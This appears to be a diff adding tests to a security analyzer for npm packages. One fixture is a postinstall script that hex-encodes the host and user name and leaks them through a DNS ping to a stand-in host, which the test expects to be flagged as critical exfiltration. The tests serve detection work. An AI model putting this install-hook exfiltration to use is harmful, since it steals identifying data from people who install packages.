@@ -892,3 +892,27 @@ format a`,
     ).toEqual([]);
   });
 });
+
+describe('data carried out on the command line of a network program', () => {
+  it('host and user name, hex-encoded, as a DNS name pinged at install', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node p.js' } }),
+      'p.js': `const { exec } = require('child_process'); const os = require('os');
+const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex').slice(0, 60);
+exec(\`ping -c 1 \${id}.p.oast.example\`);`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('a health check pinging the host it is given, and curl fetching a URL, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const { execFileSync, exec } = require('child_process');
+module.exports = (host, url) => { execFileSync('ping', ['-c', '1', host]); exec('curl -fsSL ' + url); };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
